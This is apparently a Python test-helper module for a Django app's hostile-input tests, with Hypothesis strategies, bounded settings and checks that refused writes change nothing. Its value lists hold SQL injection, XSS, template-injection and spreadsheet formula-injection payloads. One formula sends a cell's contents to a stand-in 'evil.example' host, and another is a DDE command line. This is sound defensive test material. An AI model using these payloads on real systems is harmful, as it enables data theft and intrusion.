"""What the hostile-input tests share: the values they throw at forms and the API, the bounded
and repeatable settings they run with, and the checks they make after a refused write.

Every run is derandomised (the same examples on every machine, in CI as at a desk), small,
without deadlines, shrinking or an example database, so it stays well inside the CI budget and
a failure can be replayed by running the test again."""

import hashlib
import json
from collections.abc import Callable, Iterable
from typing import Any

import hypothesis
from django.db import models, transaction
from hypothesis import strategies as st

# ---- the values -------------------------------------------------------------------------

LONG = "A" * 100_000
# Numbers written as people, spreadsheets and attackers write them.
HOSTILE_NUMBERS = [
    "1e30",
    str(10**40),
    "-" + str(10**40),
    "9" * 200,
    "-1",
    "-5",
    "-0",
    "-0.0",
    "NaN",
    "nan",
    "sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    "1e-30",
    "0.00001",
    "1e5",
    "0x10",
    "1_000",
    "١٢٣",  # Arabic-Indic digits
    "１２",  # full-width digits
    "5\x00",
    "\x00",
    " 5 ",
    "1,5",
    "1.234,56",
    "1..2",
    "--5",
    "+5",
]
HOSTILE_TEXTS = [
    "",
    " ",
    "\t\n \r",
    "\u202egnp.exe",  # right-to-left override
    "مرحبا بالعالم",  # Arabic, right to left
    "שלום",
    "👩🏽‍🚀🇨🇱🏳️‍🌈",  # emoji with skin tone, ZWJ and flags
    "e\u0301\u0301\u0301 Zalgo: Z̵̢̛͎a̷̝͝l̸̰͂g̶̣̈́o̴̳͑",  # combining marks
    "\ufeffBOM",
    "\u200b\u200c\u200d",  # zero-width characters
    LONG,
    "\x00",
    "a\x00b",
    "'; DROP TABLE indicators_indicatorvalue; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7|add:7 }}{% debug %}",
    "%(value)s %s %d {0}",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
XSS = "<script>alert(1)</script>"
# The text every free-text field gets in the formula-injection tests: it starts a formula.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_numbers() -> st.SearchStrategy[str]:
    """Numbers as text: the fixed list, and generated ones (huge, negative, exponents)."""
    generated = st.one_of(
        st.integers(min_value=-(10**45), max_value=10**45).map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
    )
    return st.one_of(st.sampled_from(HOSTILE_NUMBERS), generated)


def hostile_texts(*, max_size: int = 300) -> st.SearchStrategy[str]:
    """Text: the fixed list, and generated unicode (any category but lone surrogates, which
    no browser can send in a form)."""
    return st.one_of(
        st.sampled_from(HOSTILE_TEXTS),
        st.text(max_size=max_size),
    )


def hostile_values() -> st.SearchStrategy[str]:
    return st.one_of(hostile_numbers(), hostile_texts())


# ---- how the runs are bounded ----------------------------------------------------------


def bounded(max_examples: int) -> Callable[[Any], Any]:
    """Hypothesis settings for a bounded, repeatable run: the examples listed with
    ``@example`` first, then ``max_examples`` generated ones from a fixed seed."""
    return hypothesis.settings(
        max_examples=max_examples,
        derandomize=True,
        database=None,
        deadline=None,
        print_blob=False,
        phases=[hypothesis.Phase.explicit, hypothesis.Phase.generate],
        suppress_health_check=list(hypothesis.HealthCheck),
    )


def in_savepoint(call: Callable[[], Any]) -> Any:
    """Run ``call`` and undo whatever it wrote, so that each example starts from the same
    state (the test's own transaction stays usable even when a request failed in SQL)."""
    savepoint = transaction.savepoint_create()
    try:
        return call()
    finally:
        transaction.savepoint_rollback(savepoint)


# ---- "nothing was written" ---------------------------------------------------------------


def table_digest(*querysets: models.QuerySet[Any]) -> str:
    """A digest of every row of the querysets (all fields, in primary-key order): equal
    before and after a refused request when nothing at all was written."""
    digest = hashlib.sha256()
    for qs in querysets:
        fields = [f.attname for f in qs.model._meta.concrete_fields]
        for row in qs.order_by("pk").values_list(*fields):
            digest.update(json.dumps(row, default=str).encode())
        digest.update(b"|")
    return digest.hexdigest()


def counts(models_: Iterable[type[models.Model]]) -> dict[str, int]:
    return {m._meta.label: m._default_manager.count() for m in models_}


def names_field(body: str, *names: str) -> bool:
    """A refusal's message names one of ``names`` (a field's label, an indicator's code)."""
    return any(name and name in body for name in names)
